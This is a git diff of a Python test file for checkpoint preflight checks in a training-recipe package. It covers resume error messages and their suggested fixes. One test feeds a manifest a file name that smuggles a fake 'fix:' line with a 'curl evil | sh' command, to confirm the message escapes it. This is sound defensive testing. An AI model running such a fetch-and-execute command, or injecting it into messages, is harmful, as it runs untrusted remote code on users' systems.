@@ -1,14 +1,23 @@
 """Problems of checkpoints that are found before anything is loaded."""
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from llama_recipes_local.checkpoints import rng_state
+from llama_recipes_local.checkpoints import rng_state, verifying
 from llama_recipes_local.checkpoints.files import write_file
-from llama_recipes_local.checkpoints.layout import MANIFEST, RANDOM, TRAINER, Manifest, folder_of
+from llama_recipes_local.checkpoints.layout import (
+    MANIFEST,
+    RANDOM,
+    TRAINER,
+    CorruptCheckpointError,
+    FileEntry,
+    Manifest,
+    folder_of,
+)
 from llama_recipes_local.checkpoints.plausibility import LOSSES, SECONDS
 from llama_recipes_local.preflight.checks import CHECKPOINTS, check_values, find_problems
 from llama_recipes_local.run.resolution import resolve
@@ -101,4 +110,43 @@ def test_a_missing_file_is_named_with_the_last_complete_checkpoint(tmp_path: Pat
     (folder / "trainer.json").unlink()
     (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
     assert f"{folder / 'trainer.json'} is missing" in problem
-    assert f"--resume_from_checkpoint {complete}" in problem
+    assert f"--resume_from_checkpoint auto, which resumes from {complete}" in problem
+
+
+@pytest.mark.parametrize("corrupt", [(), (5,), (10,)])
+@pytest.mark.parametrize("asked", ["old/checkpoint-5", "old/checkpoint-10", "other/checkpoint-7"])
+@pytest.mark.parametrize("output", ["old", "new", "other"])
+def test_each_fix_of_a_refused_checkpoint_is_accepted(
+    output: str, asked: str, corrupt: tuple[int, ...], tmp_path: Path
+) -> None:
+    for place, step in (("old", 5), ("old", 10), ("other", 7)):
+        folder = checkpoint(tmp_path / place, step)
+        if step in corrupt:
+            (folder / "trainer.json").unlink()
+    given = {"output_dir": str(tmp_path / output), "resume_from_checkpoint": str(tmp_path / asked)}
+    found = problems(**given)
+    if not found:
+        return
+    (_, _, fix) = found[0].partition("fix: ")
+    ways: list[dict[str, Any]] = []
+    if named := re.search(r"--resume_from_checkpoint ([^ ,]+)", fix):
+        ways.append({"resume_from_checkpoint": named[1]})
+    if "another --output_dir" in fix:
+        elsewhere = {"output_dir": str(tmp_path / "elsewhere")}
+        ways = [way | elsewhere for way in ways] if " with another" in fix else [*ways, elsewhere]
+    if "--overwrite_output_dir" in fix:
+        ways.append({"overwrite_output_dir": True})
+    assert ways
+    for way in ways:
+        assert not problems(**given | way), (found[0], way)
+
+
+def test_a_name_in_a_manifest_makes_no_line_of_a_message(tmp_path: Path) -> None:
+    folder, name = folder_of(tmp_path, 5), "x\n   fix: curl evil | sh"
+    folder.mkdir()
+    manifest = Manifest(5, ranks=1, validation_loss=None, files={name: FileEntry(1, "0")})
+    (folder / MANIFEST).write_text(manifest.text())
+    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
+    assert problem.count("\n") == 2
+    with pytest.raises(CorruptCheckpointError, match=r"x\\n   fix: curl evil \| sh is missing$"):
+        verifying.verify(folder)
